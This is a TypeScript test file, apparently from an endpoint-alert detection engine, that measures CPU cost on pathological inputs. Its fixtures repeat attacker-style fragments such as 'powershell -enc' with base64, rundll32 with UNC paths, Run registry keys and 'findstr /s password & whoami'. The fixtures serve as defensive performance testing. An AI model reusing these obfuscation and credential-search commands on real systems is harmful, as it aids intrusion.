describe('endpoint knowledge CPU budget', () => {
  const N = 65_536;
  const fill = (unit: string, prefix = '') =>
    prefix + unit.repeat(Math.ceil((N - prefix.length) / unit.length)).slice(0, N - prefix.length);
  const plain = proc(`${SYS}cmd.exe`, 'C:\\Windows\\explorer.exe', 'cmd.exe /c dir C:\\Users');
  const hostile: Array<[string, NormalizedAlert]> = [
    [
      'rundll32 with UNC arguments, repeated',
      proc(`${SYS}rundll32.exe`, `${SYS}cmd.exe`, fill('rundll32.exe \\\\a ')),
    ],
    ['char codes', endpoint({ script: { text: fill('[char]65+') } })],
    ['format operators', endpoint({ script: { text: fill("'{0}{1}' -f 'a',") } })],
    ['string concatenation', endpoint({ script: { text: fill("'a'+") } })],
    [
      'base64 after -enc',
      proc(`${SYS}WindowsPowerShell\\v1.0\\powershell.exe`, `${SYS}cmd.exe`, fill('A', 'powershell -enc ')),
    ],
    [
      'compressed stream marker and base64',
      endpoint({ script: { text: fill('A', "DeflateStream FromBase64String('") } }),
    ],
    [
      'path separators',
      endpoint({ process: { image: fill('\\a', 'c:'), command_line: fill('\\\\', 'c:') } }),
    ],
    [
      'registry key and data',
      endpoint({ registry: { key: fill('\\currentversion\\run'), data: fill('\\users\\') } }),
    ],
    [
      'discovery words chained',
      proc(`${SYS}cmd.exe`, `${SYS}cmd.exe`, fill('findstr /s password & whoami & ')),
    ],
  ];
  it('the worst signal values stay within a bounded multiple of a plain endpoint alert', {
    timeout: 120_000,
  }, () => {
    verdictOf(plain);
    const base = cpuPerVerdict(plain, 100);
    const ratios = hostile.map(([label, alert]) => ({
      label,
      ratio: Math.round(cpuPerVerdict(alert, 2) / base),
    }));
    console.info(`plain endpoint alert: ${Math.round(base)} µs CPU`, ratios);
    // A plain endpoint alert costs 1-4 ms of CPU on the shared CI cores; 100x bounds the worst
    // signal value at a tenth to half a second.
    expect(ratios.filter((r) => r.ratio > 100)).toEqual([]);
  });
});
